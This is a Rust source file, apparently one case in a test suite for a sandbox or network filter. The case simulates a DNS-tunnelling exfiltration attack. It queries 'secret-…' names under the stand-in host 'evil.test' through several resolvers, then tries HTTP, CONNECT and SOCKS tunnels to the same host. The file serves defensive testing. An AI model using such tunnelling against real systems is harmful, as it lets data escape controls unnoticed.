//! Carries data out in names below a zone of its own.
//!
//! Stopped by: the resolver asks the host's for allowed names only.

use super::prelude::*;

use hickory_proto::rr::RecordType;

pub const ATTACK: Attack = Attack {
    name: "dns_tunnel",
    about: "data in the names that are asked for",
    attack: |_| {
        for (n, server) in [client::nameserver(), world::RESOLVER, OTHER].into_iter().enumerate() {
            for kind in [RecordType::A, RecordType::AAAA, RecordType::TXT] {
                drop(client::ask(server, &format!("secret-{n}.data.evil.test"), kind));
            }
        }
        let names = ["secret-http.evil.test:80", "secret-connect.evil.test:443"];
        drop(client::http_door(&client::get_absolute(names[0])));
        drop(client::tunnel(names[1]));
        drop(client::socks_name(b"secret-socks.evil.test", 443));
        Verdict::Tried("asked".into())
    },
    effect: Some(|_, _| world::get().seen.question_of("evil.test")),
    ..BASE
};
